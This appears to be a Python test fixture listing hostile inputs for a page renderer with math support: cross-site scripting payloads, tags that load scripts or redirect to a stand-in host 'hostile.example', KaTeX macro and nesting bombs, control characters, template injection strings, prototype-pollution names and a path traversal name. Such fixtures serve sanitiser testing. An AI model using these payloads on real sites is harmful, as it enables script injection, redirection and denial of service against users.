"""Texts that mean harm to a page that shows them. Each calls `hacked`, or asks another host, if it is ever obeyed."""

from __future__ import annotations

_URL = "http://hostile.example"

HOSTILE = [
    "<script>hacked('script')</script>",
    f"<script src='{_URL}/a.js'></script>",
    "</script><script>hacked('closed')</script>",
    "</SCRIPT ><img src=x onerror=hacked('img')>",
    "<!--<script>hacked('comment')//",
    "]]><script>hacked('cdata')</script>",
    "<svg onload=hacked('svg')>",
    f"<svg><use href='{_URL}/x.svg#a'/></svg>",
    "<iframe srcdoc='<script>parent.hacked(1)</script>'></iframe>",
    "<details open ontoggle=hacked('toggle')>",
    "<math><mtext><table><mglyph><style><img src=x onerror=hacked('mxss')>",
    "<a href=\"javascript:hacked('href')\">press</a>",
    f"<meta http-equiv=refresh content='0;url={_URL}'>",
    f"<base href='{_URL}/'><form action={_URL}><button>press",
    f"<style>@import url({_URL}/a.css); body{{display:none}}</style>",
    f"\"><img src={_URL}/i.png onerror=hacked('quote')>",
    "' onfocus=hacked('attr') autofocus tabindex=0 x='",
    "$\\href{javascript:hacked('katex')}{x}$ and $\\url{javascript:hacked('url')}$",
    f"$\\includegraphics[height=1em]{{{_URL}/i.png}}$",
    "$\\htmlClass{dv-head}{x}$ $\\htmlStyle{position:fixed;inset:0}{x}$ $\\htmlData{chunk=0}{x}$ $\\htmlId{viewer}{x}$",
    "$\\fcolorbox{red}{url(http://hostile.example)}{x}$ $\\pmb{x}$ $\\color{red;background:url(http://hostile.example)}x$",
    "$\\def\\a{\\a\\a}\\a$ $\\newcommand{\\b}{\\b x}\\b$",
    "$" + "{" * 900 + "x" + "}" * 900 + "$",
    "$$" + "\\frac{1}{" * 200 + "x" + "}" * 200 + "$$",
    "\\[" + "{" * 10_000 + "x" + "}" * 10_000 + "\\]",
    "$\\rule{9999em}{9999em}$ $\\kern{-9999em}x$ $\\raisebox{9999em}{x}$",
    "\u202eright to left\u2066 \u200b\ufeff\u2028 zero",
    "\x1b[31mred\x1b]0;title\x07 \x9b2J",
    "${hacked('template')} {{hacked('mustache')}} <%= hacked('erb') %> #{hacked('ruby')}",
    "data:text/html,<script>hacked('data')</script>",
    "__proto__ constructor prototype toString hasOwnProperty",
    "null undefined NaN -0 \ud7ff\U0001f9e8 \u0000",
    "&lt;script&gt;hacked('entity')&lt;/script&gt; &#60;img src=x onerror=hacked(1)&#62;",
]
NAMES = ["__proto__", "constructor", "toString", "</script>", "<b>id</b>", "a&b=c#trace=d", "../../etc/passwd"]
